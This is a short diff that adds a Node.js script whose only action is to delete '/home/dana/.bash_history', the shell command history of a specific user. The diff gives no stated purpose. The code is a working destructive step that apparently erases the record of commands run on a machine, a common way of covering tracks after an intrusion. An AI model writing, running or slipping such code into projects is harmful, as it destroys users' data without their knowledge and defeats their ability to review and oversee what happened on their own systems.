@@ -1,0 +1,3 @@
+import { unlinkSync } from 'node:fs'
+
+unlinkSync('/home/dana/.bash_history')
